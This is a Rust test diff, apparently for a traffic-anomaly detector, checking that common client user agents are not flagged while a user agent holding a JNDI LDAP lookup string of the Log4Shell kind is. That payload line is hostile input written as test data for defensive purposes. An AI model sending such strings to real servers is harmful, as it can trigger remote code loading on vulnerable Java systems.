@@ -99,3 +99,20 @@ fn a_tool_is_called_by_its_name_and_an_address_in_one_is_not_shown() {
     let address = said("crawler by jane.doe@corp.example #7");
     assert!(!address.contains("jane") && !address.contains("corp"), "{address}");
 }
+
+#[test]
+fn a_new_client_by_a_plain_name_is_no_finding_and_code_in_the_name_is() {
+    let judged = |agent: &str| {
+        let mut call = visit(DAY, 61, "198.51.100.10").remove(0);
+        agent.clone_into(&mut call.agent);
+        Judge::new(&SHOP).judge(&call)
+    };
+    for agent in
+        ["okhttp/5.0.0-alpha.12", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "PostmanRuntime/7.37.0"]
+    {
+        let verdict = judged(agent);
+        assert!(!is_anomalous(&verdict), "{verdict:#?}");
+    }
+    let code = judged("Mozilla/5.0 ${jndi:ldap://198.51.100.7/a}");
+    assert!(is_anomalous(&code), "{code:#?}");
+}
